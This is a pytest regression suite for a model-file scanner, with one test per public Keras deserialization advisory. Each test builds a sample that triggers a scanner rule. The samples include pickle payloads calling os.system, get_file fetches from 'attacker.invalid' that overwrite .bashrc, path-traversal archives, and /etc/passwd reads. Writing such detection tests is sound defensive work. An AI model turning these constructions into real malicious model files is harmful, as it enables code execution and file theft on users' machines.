"""One regression test per public Keras advisory, end to end through ``modeltrust.scan``.

Each sample is built here (h5py/zipfile, no Keras) with a harmless marker payload and
written to a temporary folder; the test asserts the exact rule and severity it must raise
and that the marker was never created.
"""

from __future__ import annotations

import base64
import io
import os
import pickle
import tarfile
from pathlib import Path
from typing import Any

import pytest

import modeltrust
from helpers import kerasfx as kf
from modeltrust import Severity

pytest.importorskip("h5py")
MARKER = Path(kf.MARKER_CMD.split()[-1])


def scan_file(tmp_path: Path, name: str, data: bytes) -> dict[str, Severity]:
    path = tmp_path / name
    path.write_bytes(data)
    report = modeltrust.scan(path)
    assert not MARKER.exists()
    out: dict[str, Severity] = {}
    for f in report.findings:
        out[f.rule_id] = max(out.get(f.rule_id, Severity.INFO), f.severity)
    return out


def keras_file(tmp_path: Path, *layers: dict[str, Any], weights: bytes | None = None
               ) -> dict[str, Severity]:
    return scan_file(tmp_path, "model.keras", kf.keras_zip(kf.sequential(*layers), weights))


def get_file_layer(**args: object) -> dict[str, Any]:
    """A Lambda whose function is ``keras.utils.get_file``, called with ``args``."""
    return {"module": "keras.layers", "class_name": "Lambda", "config": {
        "name": "fetch", "function": {"module": "keras.utils", "class_name": "function",
                                      "config": "get_file", "registered_name": "function"},
        "arguments": args}}


def test_cve_2024_3660_lambda_bytecode_in_keras_zip(tmp_path: Path) -> None:
    got = keras_file(tmp_path, kf.dense(), kf.lambda_k3(kf.marker_code_b64()))
    assert got["MT-KRS-001"] is Severity.CRITICAL


def test_cve_2025_9905_lambda_bytecode_in_legacy_h5_ignores_safe_mode(tmp_path: Path) -> None:
    data = kf.legacy_h5_bytes(kf.sequential_k2(kf.lambda_k2(kf.marker_code_b64())))
    assert scan_file(tmp_path, "model.h5", data)["MT-KRS-001"] is Severity.CRITICAL


def test_cve_2025_1550_module_in_nested_initializer(tmp_path: Path) -> None:
    evil = {"module": "os", "class_name": "function", "config": "system",
            "registered_name": "system"}
    got = keras_file(tmp_path, kf.dense(kernel_initializer=evil))
    assert got["MT-KRS-004"] is Severity.CRITICAL


def test_cve_2025_8747_get_file_overwrites_local_files(tmp_path: Path) -> None:
    layer = get_file_layer(origin="https://attacker.invalid/payload",
                           fname="/home/user/.bashrc", cache_dir="/")
    got = keras_file(tmp_path, layer)
    assert got["MT-KRS-005"] is Severity.HIGH and got["MT-KRS-006"] is Severity.HIGH


def test_cve_2025_9906_enable_unsafe_deserialization_then_lambda(tmp_path: Path) -> None:
    flip = {"module": "keras.layers", "class_name": "Lambda", "config": {
        "name": "flip", "function": {"module": "keras.config", "class_name": "function",
                                     "config": "enable_unsafe_deserialization",
                                     "registered_name": "function"}}}
    got = keras_file(tmp_path, flip, kf.lambda_k3(kf.marker_code_b64()))
    assert got["MT-KRS-005"] is Severity.CRITICAL and got["MT-KRS-001"] is Severity.CRITICAL


class _Marker:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (kf.MARKER_CMD,)


def test_cve_2025_49655_torch_module_wrapper_pickle(tmp_path: Path) -> None:
    blob = base64.b64encode(pickle.dumps(_Marker(), protocol=4)).decode()
    layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper",
             "config": {"name": "torch_module_wrapper", "module": blob},
             "registered_name": "TorchModuleWrapper"}
    got = keras_file(tmp_path, layer)
    assert got["MT-KRS-005"] is Severity.CRITICAL and got["MT-KRS-009"] is Severity.HIGH
    assert got["MT-PKL-002"] is Severity.CRITICAL  # the blob itself, scanned as a pickle


def test_cve_2025_12058_string_lookup_reads_local_vocabulary(tmp_path: Path) -> None:
    layer = {"module": "keras.layers", "class_name": "StringLookup",
             "config": {"name": "lookup", "vocabulary": "/etc/passwd", "mask_token": None},
             "registered_name": None}
    assert keras_file(tmp_path, layer)["MT-KRS-006"] is Severity.HIGH


def test_cve_2025_12060_get_file_extracts_a_traversal_archive(tmp_path: Path) -> None:
    layer = get_file_layer(origin="https://attacker.invalid/x.tar.gz", extract=True,
                           cache_subdir="../../..")
    got = keras_file(tmp_path, layer)
    assert got["MT-KRS-005"] is Severity.HIGH and got["MT-KRS-006"] is Severity.HIGH


def test_cve_2025_12060_traversal_archive_shipped_in_the_model(tmp_path: Path) -> None:
    """The archive ``get_file`` would extract, shipped as an asset: its names are checked."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("../../../home/user/.bashrc")
        info.size = 5
        tar.addfile(info, io.BytesIO(b"echo\n"))
    got = scan_file(tmp_path, "assets.tar", buf.getvalue())
    assert max(got.values()) >= Severity.HIGH


def test_cve_2026_1669_hdf5_external_storage_reads_local_files(tmp_path: Path) -> None:
    def extra(f: Any) -> None:
        f["layers/dense/vars"].create_dataset("2", shape=(64,), dtype="u1",
                                              external=[("/etc/passwd", 0, 64)])

    got = keras_file(tmp_path, kf.dense(), weights=kf.weights_h5_bytes(extra))
    assert got["MT-H5-003"] is Severity.HIGH


def test_cve_2026_1462_tfsmlayer_loads_an_external_saved_model(tmp_path: Path) -> None:
    layer = {"module": "keras.layers", "class_name": "TFSMLayer",
             "config": {"filepath": "/srv/other_model", "call_endpoint": "serve"},
             "registered_name": None}
    got = keras_file(tmp_path, layer)
    assert got["MT-KRS-005"] is Severity.HIGH and got["MT-KRS-006"] is Severity.HIGH


def test_benign_keras_zip_and_legacy_h5_are_clean(tmp_path: Path) -> None:
    assert not [r for r in keras_file(tmp_path, kf.dense()) if r.startswith("MT-KRS")]
    legacy = kf.legacy_h5_bytes(kf.sequential_k2({"class_name": "Dense",
                                                   "config": {"units": 8}}))
    assert not [r for r in scan_file(tmp_path, "ok.h5", legacy) if r.startswith("MT-")]

